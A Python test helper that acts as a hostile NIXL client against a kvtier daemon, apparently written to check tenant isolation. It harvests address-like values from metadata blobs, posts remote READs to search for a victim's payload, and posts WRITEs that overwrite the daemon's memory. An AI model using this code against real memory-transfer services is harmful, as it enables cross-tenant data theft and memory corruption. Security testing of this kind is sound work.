"""A hostile NIXL client with the data-port token, for tests/test_nixl_isolation.py.

    python nixl_attacker_child.py HOST:PORT MARKER_HEX OWN_KEY_HEX NS_HEX DURATION_S

Speaks kvtier's protocol with an agent of its own (the UCX transports come from UCX_TLS): sends
NIXL_METADATA again and again while the victim's traffic runs and keeps every metadata blob the
daemon hands it, loads each into its agent, and takes every page-aligned 8-byte value in those
bytes for an address of the daemon's. At each it asks NIXL for a READ and a WRITE of up to the
largest span NIXL accepts; the ones NIXL posts are moved by a legitimate NIXL_GET of its own
block (OWN_KEY, which the test stored), the kick that makes the daemon's worker progress. The
bytes it reads are searched for MARKER (the victim's payload). Prints one JSON line:
``{"metadata_bytes", "candidates", "reads_posted", "reads_done", "bytes_read", "marker_hits",
"writes_posted", "writes_done", "kicks_served"}``.
"""
import json
import os
import sys
import time

from nixl_cu12 import _api

from kvtier.client.nixl_control import ControlChannel
from kvtier.client.nixl_transport import buffer_address
from kvtier.wire import events as m

PAGE = 4096
ADDRESS_MIN, ADDRESS_MAX = 1 << 16, 1 << 47  # user-space addresses on x86-64
SPAN_MAX = 1 << 30
LOCAL_BYTES = 64 << 20  # where READs land
KICK_BYTES = 8 << 20  # after them: where the daemon writes our own block
CANDIDATES_MAX = 256
XFER_WAIT_S = 3.0


def candidates(blob: bytes) -> set[int]:
    found = set()
    for at in range(len(blob) - 7):
        value = int.from_bytes(blob[at:at + 8], "little")
        if ADDRESS_MIN <= value < ADDRESS_MAX and value % PAGE == 0:
            found.add(value)
    return found


class Attacker:
    def __init__(self, addr: str, marker: bytes, own_key: bytes, ns: bytes):
        host, _, port = addr.rpartition(":")
        self.marker, self.own_key, self.ns = marker, own_key, ns
        config = _api.nixl_agent_config(enable_prog_thread=False, backends=["UCX"])
        self.agent = _api.nixl_agent(f"attacker-{os.getpid()}", config)
        self.memory = bytearray(LOCAL_BYTES + KICK_BYTES)
        self.local = memoryview(self.memory)[:LOCAL_BYTES]
        self.base = buffer_address(self.memory)
        self.agent.register_memory([(self.base, len(self.memory), 0, "")], "DRAM", backends=["UCX"])
        self.ch = ControlChannel(host, int(port), 10.0, None, "attacker")
        self.own_md = bytes(self.agent.get_agent_metadata())
        self.blobs: list[bytes] = []
        self.daemon_names: set[str] = set()
        self.tried: set[tuple[str, int]] = set()
        self.stats = {"metadata_bytes": 0, "candidates": 0, "reads_posted": 0, "reads_done": 0, "bytes_read": 0,
                      "marker_hits": 0, "writes_posted": 0, "writes_done": 0, "kicks_served": 0}

    def ask_metadata(self) -> None:
        reply = self.ch.exchange(m.NixlMetadata(0, self.own_md, ((self.base, len(self.memory)),)))
        blob = bytes(reply.metadata)
        self.blobs.append(blob)
        self.stats["metadata_bytes"] += len(blob)
        name = self.agent.add_remote_agent(blob)
        self.daemon_names.add(name.decode() if isinstance(name, bytes) else str(name))

    def kick(self) -> None:
        """A legitimate NIXL_GET of our own block: the daemon's worker progresses."""
        try:
            reply = self.ch.exchange(m.NixlGet(0, (self.own_key,), self.agent.name,
                                               ((self.base + LOCAL_BYTES, KICK_BYTES),), self.ns, True),
                                     while_waiting=self.agent.get_new_notifs)
        except Exception as exc:  # refused, or the daemon is gone: the test looks at it
            self.stats["kick_error"] = f"{type(exc).__name__}: {exc}"
            return
        if isinstance(reply, m.NixlGetReply):
            self.stats["kicks_served"] += 1

    def _handle(self, op: str, name: str, address: int, nbytes: int):
        return self.agent.initialize_xfer(op, self.agent.get_xfer_descs([(self.base, nbytes, 0)], "DRAM"),
                                          self.agent.get_xfer_descs([(address, nbytes, 0)], "DRAM"), name)

    def largest_span(self, op: str, name: str, address: int) -> int:
        """The largest span at ``address`` NIXL lets us post (0: none)."""
        best, size = 0, PAGE
        while size <= SPAN_MAX:
            try:
                handle = self._handle(op, name, address, min(size, LOCAL_BYTES))
            except Exception:
                break
            self.agent.release_xfer_handle(handle)
            best, size = size, size * 2
        return best

    def run(self, op: str, name: str, address: int, nbytes: int) -> bool:
        """Post one transfer and kick the daemon until it is done (or XFER_WAIT_S passed)."""
        try:
            handle = self._handle(op, name, address, nbytes)
        except Exception:
            return False
        self.stats["reads_posted" if op == "READ" else "writes_posted"] += 1
        state = self.agent.transfer(handle)
        deadline = time.monotonic() + XFER_WAIT_S
        while state == "PROC" and time.monotonic() < deadline:
            self.kick()
            state = self.agent.check_xfer_state(handle)
        try:
            self.agent.release_xfer_handle(handle)
        except Exception:
            pass
        return state == "DONE"

    def spans(self, op: str, name: str, address: int):
        span = self.largest_span(op, name, address)
        return [(at, min(LOCAL_BYTES, address + span - at)) for at in range(address, address + span, LOCAL_BYTES)]

    def attack(self, duration_s: float) -> None:
        end = time.monotonic() + duration_s
        while time.monotonic() < end:
            self.ask_metadata()
            self.kick()
            targets = [(n, a) for n in sorted(self.daemon_names) for blob in self.blobs
                       for a in sorted(candidates(blob)) if (n, a) not in self.tried][:CANDIDATES_MAX]
            for name, address in targets:
                self.tried.add((name, address))
                for at, n in self.spans("READ", name, address):
                    if self.run("READ", name, at, n):
                        self.stats["reads_done"] += 1
                        self.stats["bytes_read"] += n
                        self.stats["marker_hits"] += bytes(self.local[:n]).count(self.marker)
                self.local[:] = b"\xee" * LOCAL_BYTES
                for at, n in self.spans("WRITE", name, address):
                    self.stats["writes_done"] += self.run("WRITE", name, at, n)
            self.stats["candidates"] = len(self.tried)


def main() -> None:
    addr, marker_hex, own_key_hex, ns_hex, duration = sys.argv[1:]
    attacker = Attacker(addr, bytes.fromhex(marker_hex), bytes.fromhex(own_key_hex), bytes.fromhex(ns_hex))
    try:
        attacker.attack(float(duration))
    except Exception as exc:  # refused, or the daemon is gone: the test looks at it
        attacker.stats["error"] = f"{type(exc).__name__}: {exc}"
    print(json.dumps(attacker.stats), flush=True)
    os._exit(0)


if __name__ == "__main__":
    main()
